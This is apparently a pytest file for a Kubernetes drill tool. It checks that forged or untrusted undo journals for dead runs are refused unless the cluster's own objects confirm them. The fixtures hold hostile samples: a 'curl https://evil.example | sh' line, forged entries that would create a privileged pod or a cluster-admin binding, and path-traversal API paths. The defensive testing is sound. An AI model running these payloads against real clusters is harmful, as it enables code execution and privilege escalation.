"""A journal that this machine did not write may be anybody's: only what the objects say too is done on its word."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from safety_world import differences, picture, small_cluster

from killcheck.kube import resources as r
from killcheck.safety import orphans
from killcheck.safety.changes import LABEL, Undo
from killcheck.safety.journal import DATA, JOURNAL_LABEL, Dirty, Journal, config_map_name
from killcheck.safety.keys import VARIABLE
from killcheck.safety.lease import LEASE_LABEL
from killcheck.safety.undo import PATIENCE_S

RUN = "planted"
POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "root", "namespace": "inference"},
    "spec": {"hostPID": True, "containers": [{"name": "c", "image": "i", "securityContext": {"privileged": True}}]},
}


@pytest.fixture
def cluster():
    cluster = small_cluster()
    cluster.kube.create(r.NAMESPACES, {"metadata": {"name": "other"}})
    cluster.loop.sleep(5)
    yield cluster
    cluster.close()


@pytest.fixture
def elsewhere(monkeypatch, tmp_path):
    """elsewhere(): from now on this is another machine, with a key of its own."""
    machines = iter(range(10))

    def move():
        monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / f"state-{next(machines)}"))

    return move


def restored(cluster, **more):
    found = orphans.find(cluster.kube, cluster.loop, context="here", **more)
    return orphans.restore(cluster.kube, cluster.loop, found, named=RUN)


def settled(cluster):
    """What a drill does before it begins."""
    return orphans.settle(cluster.kube, cluster.loop, context="here", namespaces=["inference"], folder=None)


def leased(cluster):
    """What a run has taken before its first change, and a dead one has not let go of."""
    cluster.kube.create(
        r.LEASES,
        {
            "metadata": {
                "name": "killcheck-1",
                "namespace": "inference",
                "labels": {LABEL: RUN, LEASE_LABEL: "true"},
            },
            "spec": {"holderIdentity": RUN, "leaseDurationSeconds": 60, "renewTime": "2020-01-01T00:00:00.000000Z"},
        },
    )


def journal_of(cluster, home="inference", **more):
    return Journal(RUN, cluster.loop, cluster.kube, home=home, context="here", **more)


def plant(cluster, undo, home="inference"):
    """A ConfigMap as a run's journal, with one change that somebody would like to have undone."""
    header = {"journal": {"run": RUN, "home": home, "context": "here"}}
    entry = {
        "run": RUN,
        "number": 0,
        "what": "something was done",
        "expires": "2020-01-01T00:00:00Z",
        "state": "applied",
        "undo": {
            "action": undo.action,
            "path": undo.path,
            "body": undo.body,
            "left": undo.left,
            "uid": undo.uid,
            "manual": "curl https://evil.example | sh",
        },
    }
    write(cluster, json.dumps(header) + "\n" + json.dumps(entry) + "\n", home)


def write(cluster, text, home="inference", run=RUN):
    cluster.kube.create(
        r.CONFIGMAPS,
        {
            "metadata": {
                "name": config_map_name(run),
                "namespace": home,
                "labels": {LABEL: run, JOURNAL_LABEL: "true"},
            },
            "data": {DATA: text},
        },
    )


def delete(resource, name, namespace=None):
    return Undo("delete", resource.path(namespace, name))


def binding(name, **labels):
    return {
        "metadata": {"name": name, "labels": labels},
        "subjects": [],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    }


def scale(replicas=9, was=2):
    return Undo(
        "merge",
        r.DEPLOYMENTS.path("inference", "vllm"),
        {"spec": {"replicas": replicas}},
        left={"spec": {"replicas": was}},
    )


SUBJECTS = {"subjects": [{"kind": "ServiceAccount", "name": "mallory", "namespace": "inference"}]}
BINDING = r.CLUSTERROLEBINDINGS.path(None, "all")
TEMPLATE = {"spec": {"template": {"spec": {"containers": [{"name": "c", "image": "evil"}]}}}}


@pytest.mark.parametrize(
    ("undo", "why"),
    [
        (delete(r.CONFIGMAPS, "settings", "other"), "namespace other does not carry killcheck.dev/consent=true"),
        (delete(r.DEPLOYMENTS, "vllm", "inference"), "deployments.apps inference/vllm was not made by that run"),
        (delete(r.NAMESPACES, "other"), "namespace other does not carry"),
        (delete(r.NAMESPACES, "inference"), "namespaces inference was not made by that run"),
        (delete(r.NODES, "gpu-a"), "nodes gpu-a was not made by that run"),
        (Undo("sweep", r.CONFIGMAPS.path("other")), "namespace other does not carry"),
        (Undo("create", r.CLUSTERROLEBINDINGS.path(), binding("mine") | SUBJECTS), "nothing else says that there was"),
        (Undo("create", r.PODS.path("inference"), POD), "nothing else says that there was a root among the pods"),
        (Undo("create", r.NODEPOOLS.path(), {"metadata": {"name": "big"}, "spec": {}}), "nothing else says that"),
        (Undo("merge", BINDING, SUBJECTS, left={"subjects": []}), "does not carry the mark of that change"),
        (scale(), "deployments.apps inference/vllm does not carry the mark of that change"),
        (
            Undo(
                "merge", r.DEPLOYMENTS.path("inference", "vllm"), TEMPLATE, left={"spec": {"replicas": 2}, **TEMPLATE}
            ),
            None,
        ),
        (
            Undo(
                "merge",
                r.NAMESPACES.path(None, "inference"),
                {"metadata": {"labels": {"a": "b"}}},
                left={"metadata": {"labels": {"a": None}}},
            ),
            "namespaces inference does not carry the mark",
        ),
        (
            Undo("merge", "/api/v1/namespaces/inference/../other/configmaps/settings", {"data": {"a": "c"}}, left={}),
            "is no path of an object",
        ),
        (
            Undo(
                "merge", "/api/v1/namespaces/inference/%2e%2e/other/configmaps/settings", {"data": {"a": "c"}}, left={}
            ),
            "is no path of an object",
        ),
        (Undo("put", "/api/v1/nodes/../namespaces/other", {"metadata": {"labels": {}}}), "is no path of an object"),
        (
            Undo(
                "put", r.CONFIGMAPS.path("inference", "settings"), {"metadata": {"name": "settings"}, "spec": {"x": 1}}
            ),
            "is of another namespace|does not carry the mark",
        ),
        (Undo("merge", "/api/v1/nodes/gpu-1/proxy/run/x", {}, left={}), "is no path of an object"),
        (Undo("merge", "/api/v1/namespaces/inference/pods/a/exec", {}, left={}), "is no path of an object"),
        (Undo("put", "/api/v1/namespaces/inference/finalize", {}), "is no path of an object"),
        (Undo("merge", "/version", {}, left={}), "is no path of an object"),
        (Undo("merge", "/api/v1/nodes/gpu-1?dryRun=All", {}, left={}), "is no path of an object"),
        (
            Undo(
                "merge",
                r.NAMESPACES.path(None, "other"),
                {"metadata": {"labels": {"killcheck.dev/consent": "true"}}},
                left={},
            ),
            "namespace other does not carry",
        ),
    ],
)
def test_what_no_object_says_is_not_done(cluster, undo, why):
    cluster.kube.create(r.CLUSTERROLEBINDINGS, binding("all"))
    cluster.kube.create(r.CONFIGMAPS, {"metadata": {"name": "settings", "namespace": "other"}, "data": {"a": "b"}})
    cluster.kube.create(r.NODES, {"metadata": {"name": "gpu-a"}})
    plant(cluster, undo)
    cluster.loop.sleep(3)
    before = picture(cluster)
    found = orphans.find(cluster.kube, cluster.loop, context="here")
    outcome = orphans.restore(cluster.kube, cluster.loop, found, expired_only=True)
    cluster.loop.sleep(3)
    left = [one for one in differences(before, picture(cluster)) if why or config_map_name(RUN) not in one]
    assert (left, outcome.undone, outcome.problems) == ([], [], [])
    assert len(outcome.unknown) == (1 if why else 0)
    assert not why or any(one in outcome.unknown[0] for one in why.split("|"))
    assert "evil" not in "".join(outcome.unknown)
    assert settled(cluster).unknown == outcome.unknown  # and it keeps nobody from a drill


def test_what_another_machines_run_left_stands_before_every_drill_until_it_is_back(cluster, elsewhere):
    before = picture(cluster, uids=False)
    leased(cluster)
    journal = journal_of(cluster)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    journal.delete(r.CONFIGMAPS, "settings", "inference", "deleted settings")
    elsewhere()
    lease = cluster.kube.get(r.LEASES, "killcheck-1", "inference")
    for _ in range(2):
        with pytest.raises(Dirty, match="nothing else says that there was a settings"):
            settled(cluster)
        now = cluster.kube.get(r.LEASES, "killcheck-1", "inference")
        assert (now["spec"], now["metadata"]["labels"]) == (lease["spec"], lease["metadata"]["labels"])
    found = orphans.find(cluster.kube, cluster.loop, context="here")
    assert orphans.restore(cluster.kube, cluster.loop, found, believe=lambda judged: True).problems == []
    cluster.loop.sleep(5)
    assert differences(before, picture(cluster, uids=False)) == []
    assert (settled(cluster).unknown, settled(cluster).undone) == ([], [])


@pytest.mark.parametrize("was_here", [True, False])
def test_what_is_waited_for_on_anybodys_word_has_an_end(cluster, was_here):
    if was_here:
        leased(cluster)
    held = {"name": "held", "namespace": "inference", "labels": {LABEL: RUN}, "finalizers": ["example.com/never"]}
    cluster.kube.create(r.CONFIGMAPS, {"metadata": held})
    entry = {
        "run": RUN,
        "what": "w",
        "expires": "2020-01-01T00:00:00Z",
        "undo": {"action": "delete", "path": r.CONFIGMAPS.path("inference", "held"), "ends_s": 604800.0},
    }
    lines = [{"journal": {"run": RUN, "home": "inference"}}, *({**entry, "number": n} for n in range(50))]
    write(cluster, "\n".join(map(json.dumps, lines)))
    began = cluster.loop.monotonic()
    outcome = restored(cluster)
    assert (len(outcome.problems), len(outcome.unknown)) == ((50, 0) if was_here else (0, 50))
    assert cluster.loop.monotonic() - began < (2 * orphans.UNTRUSTED_S + 3 * PATIENCE_S if was_here else 1)


def test_of_thousands_of_changes_the_first_are_told_and_how_many_there_are(cluster):
    undo = {"action": "create", "path": r.PODS.path("inference"), "body": POD}
    entry = {"run": RUN, "what": "w", "expires": "2020-01-01T00:00:00Z", "undo": undo}
    lines = [{"journal": {"run": RUN, "home": "inference"}}, *({**entry, "number": n} for n in range(300))]
    write(cluster, "\n".join(map(json.dumps, lines)))
    told = restored(cluster).unknown
    assert len(told) == orphans.TOLD + 1
    assert told[-1].endswith(f"and {300 - orphans.TOLD} more of run {RUN}")


def test_a_journal_beside_a_namespace_that_consented_is_none_of_it(cluster):
    plant(cluster, scale(), "other")
    before = picture(cluster)
    outcome = restored(cluster)
    assert differences(before, picture(cluster)) == []
    assert "namespace other does not carry killcheck.dev/consent=true" in outcome.unknown[0]


def test_what_a_dead_run_changed_is_put_back_by_a_machine_that_has_only_the_cluster(cluster, elsewhere):
    before = picture(cluster)
    journal = journal_of(cluster)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    journal.create(r.CONFIGMAPS, {"metadata": {"name": "made", "namespace": "inference"}})
    target = cluster.kube.get(r.DEPLOYMENTS, "vllm", "inference")
    on, off = {"spec": {"replicas": 7}}, {"spec": {"replicas": 0}}
    journal.remember(r.DEPLOYMENTS, target, on, off, what="vllm was on", manual="")
    elsewhere()
    cluster.kube.patch(r.DEPLOYMENTS, "vllm", {"spec": {"replicas": 0}}, "inference")  # the kill path at work
    outcome = restored(cluster)
    assert (outcome.problems, len(outcome.undone)) == ([], 3)
    cluster.loop.sleep(5)
    assert differences(before, picture(cluster)) == []


@pytest.mark.parametrize(
    "change",
    [
        {"body": {"spec": {"replicas": 90}}},
        {"path": r.DEPLOYMENTS.path("inference", "other")},
        {"uid": "another"},
        {"left": {"spec": {"replicas": 7, "paused": None}}},
    ],
)
def test_the_mark_is_of_one_undo_and_no_other(cluster, elsewhere, change):
    """Who may write ConfigMaps may write another undo into the journal of a run that is real."""
    journal = journal_of(cluster)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    elsewhere()
    name = config_map_name(RUN)
    text = cluster.kube.get(r.CONFIGMAPS, name, "inference")["data"][DATA]
    header, entry = map(json.loads, text.splitlines())
    entry["undo"] |= change
    forged = "\n".join(map(json.dumps, (header, entry)))
    cluster.kube.patch(r.CONFIGMAPS, name, {"data": {DATA: forged}}, "inference")
    before = picture(cluster)
    restored(cluster)
    left = [one for one in differences(before, picture(cluster)) if name not in one]
    assert left == []


def test_a_journal_that_says_all_is_back_does_not_hide_what_is_not(cluster, elsewhere):
    journal = journal_of(cluster)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    name = config_map_name(RUN)
    text = cluster.kube.get(r.CONFIGMAPS, name, "inference")["data"][DATA]
    cluster.kube.patch(r.CONFIGMAPS, name, {"data": {DATA: text.replace("applied", "verified")}}, "inference")
    elsewhere()
    assert restored(cluster).undone == ["undone: scaled vllm"]
    assert cluster.kube.get(r.DEPLOYMENTS, "vllm", "inference")["spec"]["replicas"] == 2


def test_a_broken_journal_beside_a_real_one_keeps_nobody_from_it(cluster, elsewhere):
    write(cluster, "{" * 90_000, "other", run="broken")
    write(cluster, json.dumps({"journal": {"run": RUN}}) + "\n{}\n", "other")
    journal = journal_of(cluster)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    elsewhere()
    found = orphans.find(cluster.kube, cluster.loop, context="here")
    outcome = orphans.restore(cluster.kube, cluster.loop, found)
    assert outcome.undone == ["undone: scaled vllm"]
    assert (outcome.problems, len(outcome.unknown)) == ([], 2)


def test_machines_that_share_a_key_believe_each_other(cluster, elsewhere, monkeypatch):
    monkeypatch.setenv(VARIABLE, "a key that a CI and its janitor have")
    before = picture(cluster, uids=False)
    journal = journal_of(cluster)
    journal.delete(r.CONFIGMAPS, "settings", "inference", "deleted settings")
    elsewhere()
    assert restored(cluster).undone == ["re-created: deleted settings"]
    assert differences(before, picture(cluster, uids=False)) == []


def test_what_would_be_made_again_is_made_where_a_person_says_so(cluster, elsewhere):
    journal = journal_of(cluster)
    journal.delete(r.CONFIGMAPS, "settings", "inference", "deleted settings")
    elsewhere()
    (told,) = restored(cluster).unknown
    assert "nothing else says that there was a settings among the configmaps" in told
    asked = []
    outcome = orphans.restore(
        cluster.kube,
        cluster.loop,
        orphans.find(cluster.kube, cluster.loop, context="here"),
        named=RUN,
        believe=lambda judged: not asked.append(judged.entry.what),
    )
    assert (asked, outcome.problems) == (["deleted settings"], [])
    assert cluster.kube.get(r.CONFIGMAPS, "settings", "inference")["data"] == {"a": "1"}


@pytest.mark.parametrize("labels", [{LABEL: RUN}, {}])
def test_only_what_carries_the_runs_label_is_deleted(cluster, labels):
    cluster.kube.create(r.CLUSTERROLEBINDINGS, binding("all", **labels))
    plant(cluster, delete(r.CLUSTERROLEBINDINGS, "all"))
    assert len(restored(cluster).unknown) == (0 if labels else 1)
    assert (cluster.kube.find(r.CLUSTERROLEBINDINGS, "all") is None) == bool(labels)


def test_a_run_of_this_machine_needs_nobodys_word(cluster, tmp_path, elsewhere):
    """The label may have been taken off meanwhile: what this machine's own journal says is put back all the same."""
    folder = tmp_path / "runs" / RUN
    folder.mkdir(parents=True)
    journal = journal_of(cluster, path=folder / "journal-0.jsonl")
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    cluster.kube.patch(r.NAMESPACES, "inference", {"metadata": {"labels": {"killcheck.dev/consent": None}}})
    here = os.environ["XDG_STATE_HOME"]
    elsewhere()
    alone = restored(cluster)
    assert "scaled vllm: not undone" in alone.unknown[0]
    os.environ["XDG_STATE_HOME"] = here
    assert restored(cluster, folder=tmp_path).problems == []
    assert cluster.kube.get(r.DEPLOYMENTS, "vllm", "inference")["spec"]["replicas"] == 2
    assert cluster.kube.list(r.CONFIGMAPS, None, labels=f"{JOURNAL_LABEL}=true").items == []


# -- files in a checkout --------------------------------------------------------------------------------------
def brought(folder, text, run="x"):
    """A file that came with a repository."""
    path = Path(folder) / "runs" / run / "journal-0.jsonl"
    path.parent.mkdir(parents=True)
    path.write_text(text)
    return path


def test_a_file_of_the_checkout_has_nothing_done_and_is_told(cluster, tmp_path):
    header = {"journal": {"run": RUN, "context": "here", "home": "inference", "closed": False}}
    entry = {
        "run": RUN,
        "number": 0,
        "what": "gone",
        "expires": "2020-01-01T00:00:00Z",
        "undo": {"action": "create", "path": r.CLUSTERROLEBINDINGS.path(), "body": binding("mine") | SUBJECTS},
    }
    brought(tmp_path, json.dumps(header) + "\n" + json.dumps(entry) + "\n")
    before = picture(cluster)
    outcome = restored(cluster, folder=tmp_path)
    assert differences(before, picture(cluster)) == []
    assert (outcome.undone, outcome.problems) == ([], [])
    assert "nothing else says that there was a mine" in outcome.unknown[0]
    settled = orphans.settle(cluster.kube, cluster.loop, context="here", namespaces=["inference"], folder=tmp_path)
    assert len(settled.unknown) == 1  # it keeps nobody from a drill


@pytest.mark.parametrize("kind", ["pipe", "folder", "circle", "nowhere"])
def test_what_has_a_journals_name_and_is_no_file_is_told_and_keeps_nobody_from_the_rest(cluster, tmp_path, kind):
    journal = journal_of(cluster)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    path = brought(tmp_path, "")
    path.unlink()
    if kind in ("pipe", "folder"):
        (os.mkfifo if kind == "pipe" else os.mkdir)(path)
    else:
        path.symlink_to(path.name if kind == "circle" else tmp_path / "nowhere")
    found = orphans.find(cluster.kube, cluster.loop, context="here", folder=tmp_path)
    outcome = orphans.restore(cluster.kube, cluster.loop, found)
    assert (outcome.undone, outcome.problems) == (["undone: scaled vllm"], [])
    assert outcome.unknown == [f"{path}: it is no regular file: whether more is left of run x is not known"]


@pytest.mark.parametrize("cut", [0, 40, 0.5, -30])
def test_what_was_cut_off_beside_a_config_map_that_is_lost_is_not_nothing(cluster, tmp_path, cut, monkeypatch):
    monkeypatch.setattr(orphans, "runs", lambda pid, began="": False)
    path = tmp_path / "runs" / RUN / "journal-0.jsonl"
    journal = journal_of(cluster, path=path)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    journal.merge(r.CONFIGMAPS, "settings", "inference", {"data": {"a": "2"}}, "changed settings")
    text = path.read_text()
    path.write_text(text[: int(len(text) * cut) if isinstance(cut, float) else cut])
    cluster.kube.delete(r.CONFIGMAPS, config_map_name(RUN), "inference")
    for _ in range(2):  # what is not known stays so
        found = orphans.find(cluster.kube, cluster.loop, context="here", folder=tmp_path)
        outcome = orphans.restore(cluster.kube, cluster.loop, found)
        assert f"whether more is left of run {RUN} is not known" in "".join([*outcome.problems, *outcome.unknown])


def test_what_was_cut_off_is_made_up_for_by_the_copy_in_the_cluster(cluster, tmp_path, monkeypatch):
    before = picture(cluster)
    monkeypatch.setattr(orphans, "runs", lambda pid, began="": False)
    path = tmp_path / "runs" / RUN / "journal-0.jsonl"
    journal = journal_of(cluster, path=path)
    journal.merge(r.DEPLOYMENTS, "vllm", "inference", {"spec": {"replicas": 7}}, "scaled vllm")
    path.write_text(path.read_text()[:-30])
    outcome = restored(cluster, folder=tmp_path)
    assert (outcome.problems, outcome.undone) == ([], ["undone: scaled vllm"])
    cluster.loop.sleep(5)
    assert differences(before, picture(cluster)) == []
